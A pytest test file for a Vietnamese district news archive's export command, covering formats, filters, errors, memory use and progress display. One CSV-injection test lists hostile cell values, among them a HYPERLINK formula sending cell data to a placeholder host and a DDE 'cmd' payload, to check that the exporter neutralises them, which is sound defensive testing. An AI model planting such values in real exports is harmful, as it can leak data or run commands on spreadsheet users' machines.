"""`district-archive export`: CSV, JSON and JSONL, every filter, errors, constant memory, and the
progress bar in a real terminal."""
from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import select
import sqlite3
import subprocess
import sys
import tracemalloc

import pytest
from click.testing import CliRunner

from district_archive.cli import main
from pipelines.export import ExportError, export_rows, neutralise_formula, plan_export
from pipelines.store import Archive
from pipelines.text import fold
from tests.conftest import ROOT
from tests.test_datasette_queries import copy_archive


@pytest.fixture(scope="module")
def archive_path(crawled_archive, tmp_path_factory):
    # Export opens the archive through Archive (migrations): use a private copy.
    return copy_archive(crawled_archive, tmp_path_factory.mktemp("export") / "archive.db")


@pytest.fixture(scope="module")
def db(archive_path):
    conn = sqlite3.connect(archive_path)
    conn.row_factory = sqlite3.Row
    yield conn
    conn.close()


def export(archive_path, *args: str) -> tuple[str, str]:
    result = CliRunner().invoke(main, ["export", "--db", str(archive_path), *args])
    assert result.exit_code == 0, result.output
    return result.stdout, result.stderr


def parse(fmt: str, text: str) -> list[dict]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text)))
    if fmt == "json":
        return json.loads(text)
    return [json.loads(line) for line in text.splitlines()]


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
@pytest.mark.parametrize("table", ["articles", "statistics", "document_refs", "visitor_counts",
                                   "pages", "blobs", "sites"])
def test_every_format_round_trips_every_row(archive_path, db, fmt, table):
    out, err = export(archive_path, "--table", table, "--format", fmt)
    rows = parse(fmt, out)
    expected = [dict(r) for r in db.execute(f"select * from {table} order by rowid")]
    assert len(rows) == len(expected)
    assert f"exported {len(expected)} rows from {table}" in err
    if table == "blobs":
        assert "data" not in rows[0]  # raw bodies go out as WARC, not as text
        return
    assert expected and expected[0]
    if table == "articles":  # and the places of each (tests/test_places.py)
        assert all("places" in row for row in rows)
        rows = [{k: v for k, v in row.items() if k != "places"} for row in rows]
    for got, want in zip(rows, expected, strict=True):
        if fmt == "csv":  # CSV is text: compare as text
            assert got == {k: "" if v is None else str(neutralise_formula(v))
                           for k, v in want.items()}
        else:
            assert got == want


def test_vietnamese_is_written_verbatim_utf8(archive_path, db, tmp_path):
    target = tmp_path / "articles.jsonl"
    export(archive_path, "--table", "articles", "--format", "jsonl", "-o", str(target))
    raw = target.read_bytes()
    title = db.execute("select title from articles where title like '%Thụy%'").fetchone()[0]
    assert title.encode("utf-8") in raw and b"\\u" not in raw


@pytest.mark.parametrize("table", ["articles", "statistics", "document_refs", "images",
                                   "article_versions", "visitor_counts", "pages"])
def test_site_filter(archive_path, db, table):
    out, _ = export(archive_path, "--table", table, "--format", "jsonl", "--site", "tankhe")
    rows = parse("jsonl", out)
    names = db.execute(f"select * from {table} limit 1").fetchone().keys()  # sqlite3.Row
    if "site" in names:
        expected = db.execute(f"select count(*) from {table} where site = 'tankhe'").fetchone()[0]
        assert {r["site"] for r in rows} <= {"tankhe"}
    else:
        column = "url" if table == "article_versions" else "article_url"
        expected = db.execute(f"select count(*) from {table} t join articles a on "
                              f"a.url = t.{column} where a.site = 'tankhe'").fetchone()[0]
    assert len(rows) == expected


@pytest.mark.parametrize("since,until", [("2024-03-01", "2024-05-31"), ("2019", "2019"),
                                         ("2024-03", None), (None, "2018-12")])
def test_date_range_on_publication_is_inclusive_and_prefix_aware(archive_path, db, since, until):
    args = ["--table", "articles", "--format", "json"]
    args += ["--since", since] if since else []
    args += ["--until", until] if until else []
    rows = parse("json", export(archive_path, *args)[0])
    published = [r[0] for r in db.execute(
        "select published from articles where published is not null")]
    expected = sorted(p for p in published
                      if (not since or p[:len(since)] >= since)
                      and (not until or p[:len(until)] <= until))
    assert sorted(r["published"] for r in rows) == expected and expected


def test_date_range_reaches_statistics_through_their_article(archive_path, db):
    rows = parse("jsonl", export(archive_path, "--table", "statistics", "--format", "jsonl",
                                 "--since", "2024")[0])
    expected = db.execute("select count(*) from statistics s join articles a on "
                          "a.url = s.article_url where a.published >= '2024'").fetchone()[0]
    assert len(rows) == expected > 0


@pytest.mark.parametrize("typed", ["hộ nghèo", "ho ngheo", "HỘ NGHÈO", "Kiến Thuỵ", "kien thuy",
                                   "dat", "24-CT/HU"])
def test_search_filter_however_typed(archive_path, db, typed):
    rows = parse("csv", export(archive_path, "--table", "articles", "--search", typed)[0])
    # Every typed chunk as a phrase of whole words, in the folded title or body.
    phrases = [r"(?<!\w)" + r"\W+".join(map(re.escape, re.findall(r"\w+", fold(chunk))))
               + r"(?!\w)" for chunk in typed.split()]
    expected = {r["url"] for r in db.execute("select url, title_folded, body_folded from articles")
                if all(re.search(p, r["title_folded"] + "\n" + r["body_folded"]) for p in phrases)}
    assert {r["url"] for r in rows} == expected and expected


def test_filters_combine_on_linked_tables(archive_path, db):
    rows = parse("jsonl", export(archive_path, "--table", "document_refs", "--format", "jsonl",
                                 "--site", "kienthuy", "--search", "thi dua",
                                 "--until", "2024-01")[0])
    assert rows
    for row in rows:
        article = db.execute("select * from articles where url = ?",
                             [row["article_url"]]).fetchone()
        assert article["site"] == "kienthuy" and article["published"][:7] <= "2024-01"
        assert "thi dua" in article["body_folded"] or "thi dua" in article["title_folded"]


@pytest.mark.parametrize("args,message", [
    (["--table", "nope"], "no table 'nope'; choose one of: sites"),
    (["--table", "articles_fts"], "no table 'articles_fts'"),
    (["--table", "sites", "--since", "2024"], "--since/--until do not apply to sites"),
    (["--table", "blobs", "--site", "x"], "--site does not apply to blobs"),
    (["--table", "pages", "--search", "x"], "--search does not apply to pages"),
    (["--table", "articles", "--since", "last year"], "'last year' is not a date"),
    (["--table", "articles", "--search", "  \" "], "has no word to search for"),
    (["--table", "articles", "--since", "2024-13"], "'2024-13' is not a date"),
    (["--table", "articles", "--since", "2024-02-30"], "'2024-02-30' is not a date"),
    (["--table", "articles", "--until", "2023-02-29"], "'2023-02-29' is not a date"),
    (["--table", "articles", "--since", "2024-00"], "'2024-00' is not a date"),
    (["--table", "articles", "--since", "2025", "--until", "2024"],
     "--since 2025 is after --until 2024"),
    (["--table", "statistics", "--since", "2024-03-16", "--until", "2024-03-15"],
     "is after --until"),
    (["--table", "articles", "--site", "nosuch"],
     "no site 'nosuch' in this archive; its sites: kienthuy, tankhe"),
    (["--table", "statistics", "--site", "nosuch"], "no site 'nosuch'"),
])
def test_errors_say_what_to_do_and_write_nothing(archive_path, tmp_path, args, message):
    """Every one is a usage error: exit 2, as click's own and every other command's."""
    target = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["export", "--db", str(archive_path), *args,
                                       "-o", str(target)])
    assert result.exit_code == 2 and message in result.output
    assert not target.exists()


@pytest.mark.parametrize("since,until", [("2024-02-29", None), ("2024-03-15", "2024-03"),
                                         ("2024", "2024-12-31"), (None, "2025")])
def test_real_dates_and_periods_that_can_hold_rows_are_accepted(archive_path, since, until):
    args = [*(["--since", since] if since else []), *(["--until", until] if until else [])]
    export(archive_path, "--table", "articles", *args)


def test_missing_archive_is_a_clear_error(tmp_path):
    result = CliRunner().invoke(main, ["export", "--db", str(tmp_path / "none.db"),
                                       "--table", "articles"])
    assert result.exit_code == 1 and "does not exist" in result.output


def test_streaming_keeps_memory_flat(tmp_path):
    """20,000 statistics rows out through a sink: peak memory stays far below the data."""
    archive = Archive(tmp_path / "big.db")
    archive.db.execute("pragma foreign_keys = off")  # rows without their articles, for speed
    archive.db["statistics"].insert_all(
        ({"article_url": f"https://x/{i % 500}", "kind": "money", "text": f"{i} triệu đồng",
          "value": i * 1e6, "unit": "VND", "sentence": "Hỗ trợ " * 40 + str(i)}
         for i in range(20_000)), batch_size=5000)

    class Sink(io.TextIOBase):
        written = 0

        def write(self, s):
            self.written += len(s)
            return len(s)

    for fmt in ("csv", "json", "jsonl"):
        sink = Sink()
        tracemalloc.start()
        count = export_rows(archive, "statistics", fmt, sink)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert count == 20_000
        assert sink.written > 6_000_000
        assert peak < 1_000_000, f"{fmt}: peak {peak} bytes for {sink.written} bytes written"
    archive.close()


def test_progress_reports_every_row(archive_path):
    archive = Archive(archive_path)
    seen = []
    count = export_rows(archive, "statistics", "csv", io.StringIO(), progress=seen.append)
    assert sum(seen) == count > 0
    archive.close()
    with pytest.raises(ExportError):
        plan_export(Archive(archive_path), "statistics", since="tomorrow")


def test_progress_bar_shows_in_a_terminal(archive_path, tmp_path):
    """Run the real command in a pseudo-terminal: the bar goes to it, the rows to the file."""
    target = tmp_path / "statistics.csv"
    pid, fd = pty.fork()
    if pid == 0:  # the child: the CLI with a terminal for stdin/stdout/stderr
        os.chdir(ROOT)
        os.execv(sys.executable, [sys.executable, "-m", "district_archive.cli", "export",
                                  "--db", str(archive_path), "--table", "statistics",
                                  "-o", str(target)])
    screen = b""
    while True:
        ready, _, _ = select.select([fd], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(fd, 4096)
        except OSError:
            break
        if not chunk:
            break
        screen += chunk
    os.waitpid(pid, 0)
    text = screen.decode("utf-8", "replace")
    rows = sum(1 for _ in csv.reader(target.open(encoding="utf-8"))) - 1
    assert "statistics →" in text and "100%" in text and f"{rows}/{rows}" in text
    assert f"exported {rows} rows from statistics" in text


def test_no_progress_bar_when_not_a_terminal(archive_path, tmp_path):
    target = tmp_path / "a.csv"
    result = subprocess.run([sys.executable, "-m", "district_archive.cli", "export", "--db",
                             str(archive_path), "--table", "articles", "-o", str(target)],
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0
    exported = sum(1 for _ in csv.DictReader(target.open(encoding="utf-8")))
    assert result.stderr.strip().splitlines() == [f"exported {exported} rows from articles"]


def test_excel_csv_begins_with_a_bom_and_holds_the_same_rows(archive_path, tmp_path):
    """Windows Excel reads a CSV without a byte-order mark in the ANSI code page: mojibake."""
    plain = tmp_path / "plain.csv"
    export(archive_path, "--table", "articles", "-o", str(plain))
    target = tmp_path / "articles.csv"
    result = CliRunner().invoke(main, ["export", "--db", str(archive_path), "--table", "articles",
                                       "--excel", "-o", str(target)])
    assert result.exit_code == 0, result.output
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
    assert raw[3:] == plain.read_bytes()  # the same rows; without --excel no mark, as before
    assert "Khen thưởng" in raw.decode("utf-8-sig")
    json_with_bom = CliRunner().invoke(main, ["export", "--db", str(archive_path), "--table",
                                              "articles", "--format", "json", "--excel"])
    assert json_with_bom.exit_code == 2 and "--excel" in json_with_bom.output


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """OWASP CSV injection: text starting with = + - @ TAB CR gets a leading ' in CSV (numbers
    and plain numbers in text stay as they are); JSON keeps the text verbatim."""
    db = tmp_path / "archive.db"
    archive = Archive(db)
    hostile = ['=HYPERLINK("http://elsewhere.test/?"&A1,"xem")', "+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
    harmless = ["-5", "+84", "12,5%", "Kiến Thụy", "", "a=b"]
    archive.upsert_site({"id": "s", "name": "S", "family": "generic", "base_url": "http://s.test"})
    for i, title in enumerate(hostile + harmless):
        archive.store_article(None, {"url": f"http://s.test/{i}", "site": "s", "title": title,
                                     "body_text": "x"})
    archive.close()
    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
                                    "--format", "csv"]).stdout
    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
    assert titles == ["'" + t for t in hostile] + harmless
    out = CliRunner().invoke(main, ["export", "--db", str(db), "--table", "articles",
                                    "--format", "jsonl"]).stdout
    assert [json.loads(line)["title"] for line in out.splitlines()] == hostile + harmless


@pytest.mark.parametrize("table", ["article_units", "article_places"])
def test_places_tables_take_site_dates_and_search_through_their_article(archive_path, db, table):
    """The places tables are exported per site, period and search like the statistics: their
    rows name their article."""
    rows = parse("json", export(archive_path, "--table", table, "--format", "json",
                                "--since", "2024", "--site", "kienthuy")[0])
    expected = db.execute(f"select count(*) from {table} t join articles a on "
                          "a.url = t.article_url where a.published >= '2024' "
                          "and a.site = 'kienthuy'").fetchone()[0]
    assert len(rows) == expected > 0
    searched = parse("json", export(archive_path, "--table", table, "--format", "json",
                                    "--search", "xã")[0])
    assert 0 < len(searched) <= db.execute(f"select count(*) from {table}").fetchone()[0]
